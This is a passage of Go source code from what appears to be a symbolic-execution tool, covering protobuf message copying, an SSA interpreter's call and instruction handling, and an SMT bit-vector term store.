		}
		if same {
			return t
		}
	}
	if b.len != protoLen {
		return nil
	}
	for key, vars := range ex.protoSnaps {
		same := true
		for i := 0; i < b.len; i++ {
			if b.at(i) != vars[i] {
				same = false
				break
			}
		}
		if same {
			return ex.protoTags[key]
		}
	}
	return nil
}

func protoTagOf(st *types.Struct, i int) (req, oneof bool, has bool) {
	tag := reflect.StructTag(st.Tag(i)).Get("protobuf")
	if tag == "" {
		return false, reflect.StructTag(st.Tag(i)).Get("protobuf_oneof") != "", reflect.StructTag(st.Tag(i)).Get("protobuf_oneof") != ""
	}
	parts := strings.Split(tag, ",")
	for _, p := range parts {
		if p == "req" {
			req = true
		}
	}
	return req, false, true
}

func (ex *Exec) protoMissingRequired(t types.Type, v Value, decoder bool) string {
	st, ok := t.Underlying().(*types.Struct)
	if !ok {
		return ""
	}
	sv := v.(StructV)
	for i := 0; i < st.NumFields(); i++ {
		req, oneof, has := protoTagOf(st, i)
		if !has {
			continue
		}
		f := sv.f[i]
		ft := st.Field(i).Type()
		if oneof {
			itf := f.(Iface)
			if itf.T != nil {
				wp := itf.V.(*Pointer)
				if wp != nil {
					wt := itf.T.(*types.Pointer).Elem()
					if decoder && !ex.protoOneofFirst(ft, itf.T) {
						continue
					}
					if m := ex.protoMissingRequired(wt, wp.raw(), decoder); m != "" {
						return m
					}
				}
			}
			continue
		}
		switch u := ft.Underlying().(type) {
		case *types.Pointer:
			p := f.(*Pointer)
			if p == nil {
				if req {
					return st.Field(i).Name()
				}
				continue
			}
			if _, isStruct := u.Elem().Underlying().(*types.Struct); isStruct {
				if m := ex.protoMissingRequired(u.Elem(), p.raw(), decoder); m != "" {
					return m
				}
			}
		case *types.Slice:
			s := f.(Slice)
			if req && s.base == nil {
				return st.Field(i).Name()
			}
			if pt, ok := u.Elem().Underlying().(*types.Pointer); ok {
				for k := 0; k < s.len; k++ {
					ep := s.at(k).(*Pointer)
					if ep == nil {
						// nil element encodes as an empty message
						if m := ex.protoMissingRequired(pt.Elem(), zero(pt.Elem()), decoder); m != "" {
							return m
						}
						continue
					}
					if m := ex.protoMissingRequired(pt.Elem(), ep.raw(), decoder); m != "" {
						return m
					}
				}
			}
		}
	}
	return ""
}

// protoCopy deep-copies a message value. With key != nil it also writes a structural key.
// decode=true applies decoder normalisation (empty repeated -> nil, bytes -> fresh buffers with spare capacity).
func (ex *Exec) protoCopy(t types.Type, v Value, key *strings.Builder, decode bool) Value {
	w := func(s string) {
		if key != nil {
			key.WriteString(s)
		}
	}
	switch u := t.Underlying().(type) {
	case *types.Struct:
		sv := v.(StructV)
		out := StructV{f: make([]Value, len(sv.f))}
		w("{")
		for i := 0; i < u.NumFields(); i++ {
			_, _, has := protoTagOf(u, i)
			if !has {
				out.f[i] = zero(u.Field(i).Type())
				continue
			}
			out.f[i] = ex.protoCopy(u.Field(i).Type(), sv.f[i], key, decode)
			w(";")
		}
		w("}")
		return out
	case *types.Pointer:
		p := v.(*Pointer)
		if p == nil {
			w("nil")
			return (*Pointer)(nil)
		}
		w("&")
		obj := ex.newObject(ex.protoCopy(u.Elem(), p.raw(), key, decode), "proto")
		return &Pointer{obj: obj}
	case *types.Slice:
		s := v.(Slice)
		if s.base == nil {
			w("nil[]")
			return Slice{}
		}
		isBytes := false
		if b, ok := u.Elem().Underlying().(*types.Basic); ok && b.Kind() == types.Uint8 {
			isBytes = true
		}
		if s.len == 0 && !isBytes && decode {
			return Slice{}
		}
		if s.len == 0 && !isBytes {
			w("nil[]") // empty repeated field is indistinguishable from absent
			return Slice{}
		}
		c := s.len
		if decode && !isBytes {
			// the decoder grows repeated fields by appending one element at a time
			c = 0
			for n := 1; n <= s.len; n++ {
				if n > c {
					c = growCap(c, n, ex.P.sizeof(u.Elem()))
				}
			}
		}
		if decode && isBytes {
			c = int(roundupsize(int64(s.len), true))
			if c == 0 {
				c = 0
			}
			if ex.protoExtraCap > 0 && c == s.len {
				c += ex.protoExtraCap
			}
		}
		ns := ex.makeSlice(u.Elem(), s.len, c)
		w(fmt.Sprintf("[%d:", s.len))
		for i := 0; i < s.len; i++ {
			ns.elems()[i] = ex.protoCopy(u.Elem(), s.at(i), key, decode)
			w(",")
		}
		w("]")
		return ns
	case *types.Interface:
		itf := v.(Iface)
		if itf.T == nil {
			w("nilif")
			return Iface{}
		}
		w("<" + typeString(itf.T) + ">")
		cp := ex.protoCopy(itf.T, itf.V, key, decode)
		// a oneof member holding a nil message is sent as an empty message: it decodes non-nil
		if wp, ok := cp.(*Pointer); ok && wp != nil {
			if wst, ok := itf.T.(*types.Pointer).Elem().Underlying().(*types.Struct); ok && wst.NumFields() == 1 {
				if ft, ok := wst.Field(0).Type().Underlying().(*types.Pointer); ok {
					if _, isStruct := ft.Elem().Underlying().(*types.Struct); isStruct {
						sv := wp.raw().(StructV)
						if fp, _ := sv.f[0].(*Pointer); fp == nil {
							sv.f[0] = &Pointer{obj: ex.newObject(zero(ft.Elem()), "proto")}
						}
					}
				}
			}
		}
		return Iface{T: itf.T, V: cp}
	case *types.Basic:
		w(fmt.Sprintf("k%d:", u.Kind()))
		switch x := v.(type) {
		case *Term:
			w(fmt.Sprintf("t%d", x.id))
		case *SymStr:
			if x.opaque {
				panic(abortPath{"opaque string in protobuf message"})
			}
			w("s(")
			for _, b := range x.b {
				switch bb := b.(type) {
				case *Term:
					w(fmt.Sprintf("t%d,", bb.id))
				default:
					w(fmt.Sprintf("%v,", bb))
				}
			}
			w(")")
		default:
			w(fmt.Sprintf("%v", x))
		}
		return v
	}
	panic(fmt.Sprintf("protoCopy: unsupported %v", t))
}
