package main

// SSA interpreter: frames, instructions, calls, defer/recover.

import (
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type deferred struct {
	fn    Value
	args  []Value
	instr *ssa.Defer
	tail  *deferred
}

type frame struct {
	th               *Thread
	caller           *frame
	fn               *ssa.Function
	block, prevBlock *ssa.BasicBlock
	env              map[ssa.Value]Value
	locals           []*Object
	defers           *deferred
	result           Value
	panicking        bool
	panic            interface{}
	recovered        bool
}

type continuation int

const (
	kNext continuation = iota
	kReturn
	kJump
)

func (fr *frame) get(key ssa.Value) Value {
	switch key := key.(type) {
	case nil:
		return nil
	case *ssa.Function:
		return key
	case *ssa.Builtin:
		return key
	case *ssa.Const:
		return fr.th.ex.constValue(key)
	case *ssa.Global:
		return fr.th.ex.globalPtr(key)
	}
	if r, ok := fr.env[key]; ok {
		return r
	}
	panic(fmt.Sprintf("get: no value for %T: %v (in %s)", key, key.Name(), fr.fn))
}

func (ex *Exec) constValue(c *ssa.Const) Value {
	if c.Value == nil {
		return zero(c.Type())
	}
	t := c.Type().Underlying()
	if b, ok := t.(*types.Basic); ok {
		switch {
		case b.Info()&types.IsBoolean != 0:
			return c.Value.String() == "true"
		case b.Info()&types.IsInteger != 0:
			w, _, _ := intWidth(t)
			if i, ok := int64Of(c); ok {
				return uint64(i) & mask(w)
			}
			return c.Uint64() & mask(w)
		case b.Info()&types.IsFloat != 0:
			return c.Float64()
		case b.Info()&types.IsString != 0:
			return constString(c)
		case b.Info()&types.IsComplex != 0:
			return c.Complex128()
		}
	}
	// typeparam / other
	return zero(c.Type())
}

func (ex *Exec) globalPtr(g *ssa.Global) *Pointer {
	obj, ok := ex.globals[g]
	if !ok {
		// lazily create zero-valued global; mark package as touched
		obj = ex.newObject(zero(g.Type().(*types.Pointer).Elem()), "global "+g.String())
		ex.globals[g] = obj
		if g.Pkg != nil && g.Pkg.Pkg.Path() == "crypto/rand" && g.Name() == "Reader" {
			// the ambient entropy source: a never-failing reader of fresh symbolic bytes (its Read is modelled)
			if tn := g.Pkg.Type("reader"); tn != nil {
				rt := types.NewPointer(tn.Type())
				obj.v = Iface{T: rt, V: &Pointer{obj: ex.newObject(zero(tn.Type()), "crypto/rand.reader")}}
			}
		}
		if g.Pkg != nil && !ex.initDone[g.Pkg] {
			ex.lazyInit(g.Pkg)
		}
	}
	return &Pointer{obj: obj}
}

// lazyInit runs the initializer of a package on first access to one of its globals,
// if the package is allowed to be initialised by interpretation.
func (ex *Exec) lazyInit(pkg *ssa.Package) {
	if ex.initDone[pkg] {
		return
	}
	ex.initDone[pkg] = true
	if !ex.P.initAllowed(pkg) {
		return
	}
	initFn := pkg.Func("init")
	if initFn == nil {
		return
	}
	th := ex.cur
	if th == nil {
		return
	}
	ex.callSSA(th, nil, initFn, nil, nil)
}

// ---------------------------------------------------------------- calls

func (ex *Exec) call(th *Thread, caller *frame, fnv Value, args []Value) Value {
	switch fn := fnv.(type) {
	case *ssa.Function:
		if fn == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		return ex.callSSA(th, caller, fn, args, nil)
	case *Closure:
		return ex.callSSA(th, caller, fn.Fn, args, fn.Env)
	case *ssa.Builtin:
		return ex.callBuiltin(th, caller, fn, args)
	case *NativeFunc:
		return fn.fn(th, args)
	case FuncNil:
		panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
	}
	panic(fmt.Sprintf("cannot call %T", fnv))
}

func (ex *Exec) rtError(msg string) Value {
	return Iface{T: ex.P.runtimeErrType, V: "runtime error: " + msg}
}

func (ex *Exec) callSSA(th *Thread, caller *frame, fn *ssa.Function, args []Value, env []Value) Value {
	if h := ex.P.intercept(fn); h != nil {
		return h(ex, th, caller, fn, args)
	}
	if fn.Blocks == nil {
		name := fn.String()
		if fn.Pkg != nil && fn.Pkg == ex.P.harnessPkg || isIntrinsicName(fn.Name()) {
			return ex.intrinsic(th, caller, fn, args)
		}
		panic(abortPath{"no body for " + name})
	}
	if fn.Pkg != nil && fn.Synthetic == "package initializer" {
		if !ex.P.initAllowed(fn.Pkg) {
			ex.initDone[fn.Pkg] = true
			return nil
		}
		ex.initDone[fn.Pkg] = true
	} else if fn.Pkg != nil && !ex.initDone[fn.Pkg] {
		ex.lazyInit(fn.Pkg)
	}
	th.depth++
	if ex.P.debugAbort {
		defer func() {
			th.depth--
			if r := recover(); r != nil {
				if a, ok := r.(abortPath); ok {
					if strings.Count(a.reason, " <- ") < 8 {
						a.reason += " <- " + fn.String()
					}
					panic(a)
				}
				panic(r)
			}
		}()
	} else {
		defer func() { th.depth-- }()
	}
	if th.depth > 400 {
		panic(abortPath{"call depth exceeded in " + fn.String()})
	}
	fr := &frame{th: th, caller: caller, fn: fn}
	fr.env = make(map[ssa.Value]Value, 16)
	fr.block = fn.Blocks[0]
	for i, p := range fn.Params {
		fr.env[p] = args[i]
	}
	for i, fv := range fn.FreeVars {
		fr.env[fv] = env[i]
	}
	for fr.block != nil {
		ex.runFrame(fr)
	}
	return fr.result
}

// runFrame executes blocks until return; handles panics by running deferred calls.
func (ex *Exec) runFrame(fr *frame) {
	defer func() {
		if fr.block == nil {
			return // normal return
		}
		r := recover()
		if r == nil {
			return
		}
		tp, ok := r.(targetPanic)
		if !ok {
			panic(r) // engine-level control flow (abort, prune, kill): do not run deferred calls
		}
		fr.panicking = true
		fr.panic = tp
		ex.runDefers(fr)
		// recovered: continue at Recover block or return zero results
		fr.block = fr.fn.Recover
	}()
	for {
		for _, instr := range fr.block.Instrs {
			ex.steps++
			if ex.steps > ex.maxSteps {
				panic(abortPath{"step bound exceeded"})
			}
			switch ex.visitInstr(fr, instr) {
			case kReturn:
				return
			case kNext:
			case kJump:
				goto next
			}
		}
		panic("block without terminator")
	next:
	}
}

func (ex *Exec) runDefers(fr *frame) {
	for d := fr.defers; d != nil; d = d.tail {
		ex.runDefer(fr, d)
	}
	fr.defers = nil
	if fr.panicking {
		panic(fr.panic) // new or un-recovered panic
	}
}

func (ex *Exec) runDefer(fr *frame, d *deferred) {
	var ok bool
	defer func() {
		if !ok {
			r := recover()
			if tp, is := r.(targetPanic); is {
				// deferred call panicked: replaces current panic
				fr.panicking = true
				fr.panic = tp
				return
			}
			panic(r)
		}
	}()
	ex.call(fr.th, fr, d.fn, d.args)
	ok = true
}

// prepareCall resolves the callee and arguments of a call instruction.
func (ex *Exec) prepareCall(fr *frame, call *ssa.CallCommon) (fn Value, args []Value) {
	v := fr.get(call.Value)
	if call.Method == nil {
		fn = v
	} else {
		recv := v.(Iface)
		if recv.T == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		f := ex.P.lookupMethod(recv.T, call.Method)
		if f == nil {
			panic(fmt.Sprintf("method %s not found on %s", call.Method.Name(), recv.T))
		}
		fn = f
		args = append(args, recv.V)
	}
	for _, a := range call.Args {
		args = append(args, fr.get(a))
	}
	return
}

// ---------------------------------------------------------------- instructions

func (ex *Exec) visitInstr(fr *frame, instr ssa.Instruction) continuation {
	if ex.P.countFns {
		ex.fnSteps[fr.fn]++
	}
	switch instr := instr.(type) {
	case *ssa.DebugRef:
	case *ssa.UnOp:
		fr.env[instr] = ex.unop(fr, instr, fr.get(instr.X))
	case *ssa.BinOp:
		fr.env[instr] = ex.binop(instr.Op, instr.X.Type(), fr.get(instr.X), fr.get(instr.Y))
	case *ssa.Call:
		fn, args := ex.prepareCall(fr, &instr.Call)
		if _, isBuiltin := fn.(*ssa.Builtin); isBuiltin && ex.raceLog != nil {
			ex.curInstrWhere = where(instr)
		}
		fr.env[instr] = ex.call(fr.th, fr, fn, args)
	case *ssa.ChangeInterface:
		fr.env[instr] = fr.get(instr.X)
	case *ssa.ChangeType:
		fr.env[instr] = fr.get(instr.X)
	case *ssa.Convert:
		fr.env[instr] = ex.conv(instr.Type(), instr.X.Type(), fr.get(instr.X))
	case *ssa.SliceToArrayPointer:
		s := fr.get(instr.X).(Slice)
		n := int(instr.Type().(*types.Pointer).Elem().Underlying().(*types.Array).Len())
		if s.len < n {
			panic(targetPanic{ex.rtError("cannot convert slice to array pointer: length too short")})
		}
		if s.base == nil {
			fr.env[instr] = (*Pointer)(nil)
			break
		}
		if s.off != 0 || len(s.elems()) != n {
			// would need an interior array view
			panic(abortPath{"SliceToArrayPointer of interior slice"})
		}
		fr.env[instr] = s.base
	case *ssa.MakeInterface:
		fr.env[instr] = Iface{T: instr.X.Type(), V: fr.get(instr.X)}
	case *ssa.Extract:
		fr.env[instr] = fr.get(instr.Tuple).(Tuple)[instr.Index]
	case *ssa.Slice:
		fr.env[instr] = ex.sliceOp(fr, instr)
	case *ssa.Return:
		switch len(instr.Results) {
		case 0:
		case 1:
			fr.result = fr.get(instr.Results[0])
		default:
			var res Tuple
			for _, r := range instr.Results {
				res = append(res, fr.get(r))
			}
			fr.result = res
		}
		fr.block = nil
		return kReturn
	case *ssa.RunDefers:
		ex.runDefers(fr)
	case *ssa.Panic:
		panic(targetPanic{fr.get(instr.X)})
	case *ssa.Send:
		ex.chanSend(fr.th, fr.get(instr.Chan).(*ChanV), fr.get(instr.X))
	case *ssa.Store:
		p := fr.get(instr.Addr).(*Pointer)
		if p == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		ex.access(fr.th, p, true, instr)
		p.store(fr.get(instr.Val))
	case *ssa.If:
		succ := 1
		if ex.P.branchProfile {
			if t, ok := fr.get(instr.Cond).(*Term); ok && !t.IsConst() && ex.dpos >= len(ex.prefix) {
				ex.res.DecisionKinds["if@"+fr.fn.String()]++
			}
		}
		if ex.branch(fr.get(instr.Cond)) {
			succ = 0
		}
		fr.prevBlock, fr.block = fr.block, fr.block.Succs[succ]
		return kJump
	case *ssa.Jump:
		fr.prevBlock, fr.block = fr.block, fr.block.Succs[0]
		return kJump
	case *ssa.Defer:
		fn, args := ex.prepareCall(fr, &instr.Call)
		fr.defers = &deferred{fn: fn, args: args, instr: instr, tail: fr.defers}
	case *ssa.Go:
		fn, args := ex.prepareCall(fr, &instr.Call)
		name := "go"
		switch f := fn.(type) {
		case *ssa.Function:
			name = f.String()
		case *Closure:
			name = f.Fn.String()
		}
		ex.newThread(name, func(th *Thread) {
			ex.call(th, nil, fn, args)
		})
	case *ssa.MakeChan:
		n := ex.intOf(fr.get(instr.Size), "makechan size")
		fr.env[instr] = ex.newChan(int(n), instr.Type().Underlying().(*types.Chan).Elem())
	case *ssa.Alloc:
		t := instr.Type().(*types.Pointer).Elem()
		obj := ex.newObject(zero(t), instr.Comment)
		fr.env[instr] = &Pointer{obj: obj}
	case *ssa.MakeSlice:
		n := int(ex.intOf(fr.get(instr.Len), "makeslice len"))
		c := int(ex.intOf(fr.get(instr.Cap), "makeslice cap"))
		if n < 0 || c < n || c > 1<<20 {
			panic(targetPanic{ex.rtError("makeslice: len out of range")})
		}
		et := instr.Type().Underlying().(*types.Slice).Elem()
		fr.env[instr] = ex.makeSlice(et, n, c)
	case *ssa.MakeMap:
		t := instr.Type().Underlying().(*types.Map)
		ex.nobj++
		fr.env[instr] = &MapV{kt: t.Key(), vt: t.Elem(), id: ex.nobj}
	case *ssa.Range:
		fr.env[instr] = ex.rangeIter(fr.get(instr.X), instr.X.Type())
	case *ssa.Next:
		fr.env[instr] = fr.get(instr.Iter).(iterator).next(ex)
	case *ssa.FieldAddr:
		p := fr.get(instr.X).(*Pointer)
		if p == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		fr.env[instr] = p.sub(instr.Field)
	case *ssa.Field:
		fr.env[instr] = copyVal(fr.get(instr.X).(StructV).f[instr.Field])
	case *ssa.IndexAddr:
		x := fr.get(instr.X)
		idx := fr.get(instr.Index)
		switch x := x.(type) {
		case *Pointer: // *array
			if x == nil {
				panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
			}
			n := int(instr.X.Type().Underlying().(*types.Pointer).Elem().Underlying().(*types.Array).Len())
			i := ex.index(idx, instr.Index.Type(), n)
			fr.env[instr] = x.sub(i)
		case Slice:
			i := ex.index(idx, instr.Index.Type(), x.len)
			fr.env[instr] = x.base.sub(x.off + i)
		default:
			panic(fmt.Sprintf("IndexAddr on %T", x))
		}
	case *ssa.Index:
		x := fr.get(instr.X)
		idx := fr.get(instr.Index)
		switch x := x.(type) {
		case ArrayV:
			i := ex.index(idx, instr.Index.Type(), len(x.e))
			fr.env[instr] = copyVal(x.e[i])
		case string, *SymStr:
			b := strBytes(x)
			i := ex.index(idx, instr.Index.Type(), len(b))
			fr.env[instr] = b[i]
		default:
			panic(fmt.Sprintf("Index on %T", x))
		}
	case *ssa.Lookup:
		fr.env[instr] = ex.lookup(instr, fr.get(instr.X), fr.get(instr.Index))
	case *ssa.MapUpdate:
		m := fr.get(instr.Map).(*MapV)
		if m == nil {
			panic(targetPanic{ex.rtError("assignment to entry in nil map")})
		}
		ex.mapAccess(fr.th, m, true, instr)
		ex.mapUpdate(m, fr.get(instr.Key), fr.get(instr.Value))
	case *ssa.TypeAssert:
		fr.env[instr] = ex.typeAssert(instr, fr.get(instr.X).(Iface))
	case *ssa.MakeClosure:
		var bindings []Value
		for _, b := range instr.Bindings {
			bindings = append(bindings, fr.get(b))
		}
		fr.env[instr] = &Closure{Fn: instr.Fn.(*ssa.Function), Env: bindings}
	case *ssa.Phi:
		for i, pred := range instr.Block().Preds {
			if fr.prevBlock == pred {
				fr.env[instr] = fr.get(instr.Edges[i])
				break
			}
		}
	case *ssa.Select:
		fr.env[instr] = ex.selectInstr(fr, instr)
	default:
		panic(fmt.Sprintf("unexpected instruction: %T", instr))
	}
	return kNext
}

// intOf returns a concrete int64 from an integer value (concretising by abort if symbolic).
func (ex *Exec) intOf(v Value, what string) int64 {
	switch v := v.(type) {
	case uint64:
		return int64(v)
	case *Term:
		if v.IsConst() {
			return sext64(v.val, v.w)
		}
		panic(abortPath{"symbolic " + what})
	case nil:
		return 0
	}
	panic(fmt.Sprintf("intOf %T", v))
}

// index checks 0 <= idx < n, forking into the out-of-range panic when symbolic.
func (ex *Exec) index(idx Value, t types.Type, n int) int {
	w, signed, _ := intWidth(t)
	switch v := idx.(type) {
	case uint64:
		var i int64
		if signed {
			i = sext64(v, w)
		} else {
			if v > 1<<62 {
				i = -1
			} else {
				i = int64(v)
			}
		}
		if i < 0 || i >= int64(n) {
			panic(targetPanic{ex.rtError(fmt.Sprintf("index out of range [%d] with length %d", i, n))})
		}
		return int(i)
	case *Term:
		// in range?
		inr := ex.ts.Cmp(TULt, v, ex.ts.Const(uint64(n), v.w)) // unsigned compare covers negatives
		if n == 0 {
			inr = ex.ts.False
		}
		if !ex.branch(inr) {
			panic(targetPanic{ex.rtError(fmt.Sprintf("index out of range [symbolic] with length %d", n))})
		}
		return ex.concretize(v, 0, n, "index")
	}
	panic(fmt.Sprintf("index %T", idx))
}

func (ex *Exec) makeSlice(et types.Type, n, c int) Slice {
	arr := ArrayV{e: make([]Value, c)}
	z := zero(et)
	for i := range arr.e {
		arr.e[i] = copyVal(z)
	}
	obj := ex.newObject(arr, "makeslice")
	return Slice{base: &Pointer{obj: obj}, off: 0, len: n, cap: c}
}

func (ex *Exec) sliceOp(fr *frame, instr *ssa.Slice) Value {
	x := fr.get(instr.X)
	var lo, hi, max int = 0, -1, -1
	if instr.Low != nil {
		lo = int(ex.intOf(fr.get(instr.Low), "slice low"))
	}
	if instr.High != nil {
		hi = int(ex.intOf(fr.get(instr.High), "slice high"))
	}
	if instr.Max != nil {
		max = int(ex.intOf(fr.get(instr.Max), "slice max"))
	}
	switch x := x.(type) {
	case string, *SymStr:
		b := strBytes(x)
		if hi < 0 {
			hi = len(b)
		}
		if lo < 0 || hi > len(b) || lo > hi {
			panic(targetPanic{ex.rtError(fmt.Sprintf("slice bounds out of range [%d:%d] with length %d", lo, hi, len(b)))})
		}
		return mkStr(b[lo:hi])
	case Slice:
		if hi < 0 {
			hi = x.len
		}
		if max < 0 {
			max = x.cap
		}
		if lo < 0 || hi > x.cap || lo > hi || max > x.cap || hi > max {
			panic(targetPanic{ex.rtError(fmt.Sprintf("slice bounds out of range [%d:%d:%d] with capacity %d", lo, hi, max, x.cap))})
		}
		if x.base == nil {
			return Slice{}
		}
		return Slice{base: x.base, off: x.off + lo, len: hi - lo, cap: max - lo}
	case *Pointer: // *array
		if x == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		n := len(x.raw().(ArrayV).e)
		if hi < 0 {
			hi = n
		}
		if max < 0 {
			max = n
		}
		if lo < 0 || hi > n || lo > hi || max > n || hi > max {
			panic(targetPanic{ex.rtError(fmt.Sprintf("slice bounds out of range [%d:%d] with length %d", lo, hi, n))})
		}
		return Slice{base: x, off: lo, len: hi - lo, cap: max - lo}
	}
	panic(fmt.Sprintf("slice of %T", x))
}

func (ex *Exec) typeAssert(instr *ssa.TypeAssert, itf Iface) Value {
	var ok bool
	var v Value
	if itf.T != nil {
		if isInterface(instr.AssertedType) {
			ok = ex.P.implements(itf.T, instr.AssertedType.Underlying().(*types.Interface))
			v = itf
		} else {
			ok = types.Identical(itf.T, instr.AssertedType)
			v = itf.V
		}
	}
	if !ok {
		if instr.CommaOk {
			return Tuple{zero(instr.AssertedType), false}
		}
		got := "nil"
		if itf.T != nil {
			got = typeString(itf.T)
		}
		panic(targetPanic{Iface{T: ex.P.runtimeErrType, V: fmt.Sprintf("interface conversion: interface is %s, not %s", got, typeString(instr.AssertedType))}})
	}
	if instr.CommaOk {
		return Tuple{copyVal(v), true}
	}
	return copyVal(v)
}

func (ex *Exec) unop(fr *frame, instr *ssa.UnOp, x Value) Value {
	switch instr.Op {
	case token.ARROW:
		v, ok := ex.chanRecv(fr.th, x.(*ChanV))
		if instr.CommaOk {
			return Tuple{v, ok}
		}
		return v
	case token.MUL:
		p := x.(*Pointer)
		if p == nil {
			panic(targetPanic{ex.rtError("invalid memory address or nil pointer dereference")})
		}
		ex.access(fr.th, p, false, instr)
		return p.load()
	case token.SUB:
		switch x := x.(type) {
		case uint64:
			w, _, _ := intWidth(instr.X.Type())
			return (-x) & mask(w)
		case *Term:
			return ex.ts.Un(TNeg, x)
		case float64:
			return -x
		}
	case token.NOT:
		switch x := x.(type) {
		case bool:
			return !x
		case *Term:
			return ex.ts.Not(x)
		}
	case token.XOR:
		switch x := x.(type) {
		case uint64:
			w, _, _ := intWidth(instr.X.Type())
			return (^x) & mask(w)
		case *Term:
			return ex.ts.Un(TBNot, x)
		}
	}
	panic(fmt.Sprintf("unop %v on %T", instr.Op, x))
}

func isIntrinsicName(n string) bool {
	return len(n) >= 2 && n[0] == 'v' && n[1] >= 'A' && n[1] <= 'Z'
}

func int64Of(c *ssa.Const) (int64, bool) {
	defer func() { recover() }()
	t := c.Type().Underlying().(*types.Basic)
	if t.Info()&types.IsUnsigned != 0 {
		return 0, false
	}
	return c.Int64(), true
}

func constString(c *ssa.Const) string {
	return strings.Clone(constant.StringVal(c.Value))
}
