package main

// Hash-consed SMT terms (Bool and fixed-width bit-vectors), local simplification,
// a concrete evaluator, and SMT-LIB2 printing.

import (
	"fmt"
	"math/big"
	"strings"
)

type TOp uint8

const (
	TConst TOp = iota
	TVar
	TNot
	TAnd
	TOr
	TIte
	TEq
	TAdd
	TSub
	TMul
	TUDiv
	TURem
	TSDiv
	TSRem
	TBAnd
	TBOr
	TBXor
	TShl
	TLShr
	TAShr
	TNeg
	TBNot
	TULt
	TULe
	TSLt
	TSLe
	TExtract // p1=hi p2=lo
	TConcat  // args high..low
	TZext    // p1 = extra bits
	TSext    // p1 = extra bits
	TUF      // name, args; result width w
)

var topNames = map[TOp]string{
	TNot: "not", TAnd: "and", TOr: "or", TIte: "ite", TEq: "=", TAdd: "bvadd", TSub: "bvsub", TMul: "bvmul",
	TUDiv: "bvudiv", TURem: "bvurem", TSDiv: "bvsdiv", TSRem: "bvsrem", TBAnd: "bvand", TBOr: "bvor", TBXor: "bvxor",
	TShl: "bvshl", TLShr: "bvlshr", TAShr: "bvashr", TNeg: "bvneg", TBNot: "bvnot", TULt: "bvult", TULe: "bvule",
	TSLt: "bvslt", TSLe: "bvsle", TConcat: "concat",
}

// Term: w == 0 means Bool, otherwise bit-vector of width w.
type Term struct {
	id   int
	op   TOp
	w    int
	args []*Term
	val  uint64   // const (w<=64), bool const: 0/1
	big  *big.Int // const (w>64)
	name string   // var / UF name
	p1   int
	p2   int
	hasUF bool
}

func (t *Term) IsConst() bool { return t.op == TConst }
func (t *Term) IsBool() bool  { return t.w == 0 }
func (t *Term) String() string {
	return t.smtInline(3)
}

type TermStore struct {
	table  map[string]*Term
	nextID int
	True   *Term
	False  *Term
	vars   []*Term
	ufs    map[string]*ufSig
	ufList []string
	nvar   int
}

type ufSig struct {
	name string
	argw []int
	resw int
}

func NewTermStore() *TermStore {
	ts := &TermStore{table: map[string]*Term{}, ufs: map[string]*ufSig{}}
	ts.True = ts.intern(&Term{op: TConst, w: 0, val: 1})
	ts.False = ts.intern(&Term{op: TConst, w: 0, val: 0})
	return ts
}

func (ts *TermStore) key(t *Term) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%d:%d:", t.op, t.w)
	switch t.op {
	case TConst:
		if t.big != nil {
			sb.WriteString(t.big.Text(16))
		} else {
			fmt.Fprintf(&sb, "%x", t.val)
		}
	case TVar:
		sb.WriteString(t.name)
	case TUF:
		sb.WriteString(t.name)
		sb.WriteByte(':')
	case TExtract, TZext, TSext:
		fmt.Fprintf(&sb, "%d,%d:", t.p1, t.p2)
	}
	for _, a := range t.args {
		fmt.Fprintf(&sb, "%d,", a.id)
	}
	return sb.String()
}

func (ts *TermStore) intern(t *Term) *Term {
	k := ts.key(t)
	if e, ok := ts.table[k]; ok {
		return e
	}
	t.id = ts.nextID
	ts.nextID++
	for _, a := range t.args {
		if a.hasUF {
			t.hasUF = true
		}
	}
	if t.op == TUF {
		t.hasUF = true
	}
	ts.table[k] = t
	return t
}

func mask(w int) uint64 {
	if w >= 64 {
		return ^uint64(0)
	}
	return (uint64(1) << uint(w)) - 1
}

func sext64(v uint64, w int) int64 {
	if w >= 64 {
		return int64(v)
	}
	sh := uint(64 - w)
	return int64(v<<sh) >> sh
}

func (ts *TermStore) Bool(b bool) *Term {
	if b {
		return ts.True
	}
	return ts.False
}

func (ts *TermStore) Const(v uint64, w int) *Term {
	if w == 0 {
		return ts.Bool(v != 0)
	}
	if w > 64 {
		return ts.BigConst(new(big.Int).SetUint64(v), w)
	}
	return ts.intern(&Term{op: TConst, w: w, val: v & mask(w)})
}

func (ts *TermStore) BigConst(v *big.Int, w int) *Term {
	if w <= 64 {
		return ts.Const(v.Uint64(), w)
	}
	m := new(big.Int).Lsh(big.NewInt(1), uint(w))
	m.Sub(m, big.NewInt(1))
	v = new(big.Int).And(v, m)
	return ts.intern(&Term{op: TConst, w: w, big: v})
}

func (ts *TermStore) Var(name string, w int) *Term {
	n := len(ts.table)
	t := ts.intern(&Term{op: TVar, w: w, name: name})
	if len(ts.table) != n {
		ts.vars = append(ts.vars, t)
	}
	return t
}

// FreshVar creates a new variable with a unique suffix.
func (ts *TermStore) FreshVar(prefix string, w int) *Term {
	ts.nvar++
	return ts.Var(fmt.Sprintf("%s!%d", sanitize(prefix), ts.nvar), w)
}

func sanitize(s string) string {
	var sb strings.Builder
	for _, c := range s {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '.' {
			sb.WriteRune(c)
		} else {
			sb.WriteByte('_')
		}
	}
	if sb.Len() == 0 {
		return "v"
	}
	return sb.String()
}

func (ts *TermStore) UF(name string, resw int, args ...*Term) *Term {
	sig, ok := ts.ufs[name]
	if !ok {
		sig = &ufSig{name: name, resw: resw}
		for _, a := range args {
			sig.argw = append(sig.argw, a.w)
		}
		ts.ufs[name] = sig
		ts.ufList = append(ts.ufList, name)
	} else {
		if len(sig.argw) != len(args) || sig.resw != resw {
			panic("UF arity/sort mismatch " + name)
		}
		for i, a := range args {
			if sig.argw[i] != a.w {
